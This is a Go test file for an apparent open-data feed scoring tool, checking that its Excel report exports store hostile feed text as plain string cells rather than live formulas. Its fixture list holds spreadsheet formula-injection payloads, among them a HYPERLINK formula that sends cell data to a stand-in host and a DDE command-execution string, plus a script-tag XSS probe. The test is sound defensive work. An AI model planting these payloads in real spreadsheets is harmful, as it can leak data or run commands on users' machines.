package report

import (
	"bytes"
	"context"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/feedgauge/feedgauge/internal/domain"
	"github.com/feedgauge/feedgauge/internal/store"
	"github.com/feedgauge/feedgauge/internal/store/storetest"
)

const hostileDS = "https://hostile.example.org/openactive/"

// hostile is feed text a spreadsheet might run as a formula.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"Click me")`, `+SUM(1,2)`, `-2+3`, `@SUM(A1:A2)`,
	"\t=1+1", "\r=1+1", `=cmd|' /C calc'!A0`, `<script>alert(1)</script>`,
}

// loadHostile adds a dataset whose names are hostile to the fixture's
// latest snapshot (T2), plus one name longer than Excel's cell limit.
func loadHostile(t *testing.T, st store.Store) string {
	t.Helper()
	ctx := context.Background()
	if err := storetest.LoadFixture(ctx, st); err != nil {
		t.Fatal(err)
	}
	long := strings.Repeat("Very long description. ", 2000) // 46,000 characters
	d := domain.Dataset{ID: hostileDS, Name: hostile[0], Publisher: hostile[1], DiscoveredAt: storetest.T1}
	if err := store.PutDatasets(ctx, st, []domain.Dataset{d}); err != nil {
		t.Fatal(err)
	}
	base := storetest.FixtureScores(storetest.T2, 1)[0]
	var scores []domain.ActivityScore
	for i, h := range append(append([]string{}, hostile...), long) {
		s := base
		s.DatasetID, s.ActivityID, s.Name, s.Organiser = hostileDS, hostileDS+"a/"+string(rune('a'+i)), h, h
		s.OrganiserKey, s.FailedChecks = "https://org.example/"+string(rune('a'+i)), []string{"sp.9"}
		scores = append(scores, s)
	}
	if err := store.PutScores(ctx, st, scores); err != nil {
		t.Fatal(err)
	}
	if err := store.PutAreaRollups(ctx, st, store.AreaRollups(storetest.T2, hostileDS, scores)); err != nil {
		t.Fatal(err)
	}
	if err := store.PutDatasetRollups(ctx, st, []store.DatasetRollup{store.Rollup(storetest.T2, d, 1, scores)}); err != nil {
		t.Fatal(err)
	}
	return long
}

// TestFormulaInjection: hostile feed text is written as string cells that
// keep their visible value, never as formulas; over-long text is cut with
// a visible marker within Excel's limit.
func TestFormulaInjection(t *testing.T) {
	set := testSet(t)
	for _, b := range storetest.All(t) {
		long := loadHostile(t, b.Store)
		for _, c := range []reportCase{
			{"fix-list", map[string]string{"dataset": hostileDS}},
			{"quarterly", map[string]string{"quarter": "2026Q2"}},
			{"place", map[string]string{"place": "E08000009"}},
		} {
			def, _ := set.Get(c.name)
			var buf bytes.Buffer
			if err := Write(context.Background(), b.Store, def, c.params, &buf); err != nil {
				t.Fatal(err)
			}
			f, err := excelize.OpenReader(&buf)
			if err != nil {
				t.Fatal(err)
			}
			seen := checkNoFormulas(t, b.Name+" "+c.name, f, long)
			if c.name == "fix-list" {
				for _, h := range append(hostile, "long") {
					if !seen[h] {
						t.Errorf("%s %s: hostile text %q not found as a string cell", b.Name, c.name, h)
					}
				}
			}
			f.Close()
		}
	}
}

// checkNoFormulas walks every cell: none may hold a formula; hostile text
// must be a string cell with its value intact. It returns the hostile
// texts seen.
func checkNoFormulas(t *testing.T, label string, f *excelize.File, long string) map[string]bool {
	t.Helper()
	seen := map[string]bool{}
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c, v := range row {
				cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
				if formula, _ := f.GetCellFormula(sheet, cell); formula != "" {
					t.Errorf("%s %s!%s holds the formula %q", label, sheet, cell, formula)
				}
				checkHostileCell(t, label, f, sheet, cell, v, long, seen)
			}
		}
	}
	return seen
}

func checkHostileCell(t *testing.T, label string, f *excelize.File, sheet, cell, v, long string, seen map[string]bool) {
	t.Helper()
	typ, _ := f.GetCellType(sheet, cell)
	for _, h := range hostile {
		if v == h || v == "Org "+h {
			seen[h] = true
			if typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
				t.Errorf("%s %s!%s = %q is of type %v, not a string", label, sheet, cell, v, typ)
			}
		}
	}
	if strings.HasPrefix(v, "Very long description.") && len(v) > 1000 {
		seen["long"] = true
		if utf16Len(v) > maxCellChars || !strings.Contains(v, "[cut: 46000 characters in all") || !strings.HasPrefix(long, v[:1000]) {
			t.Errorf("%s %s!%s: long text kept %d characters, ends %q", label, sheet, cell, utf16Len(v), v[len(v)-80:])
		}
	}
}
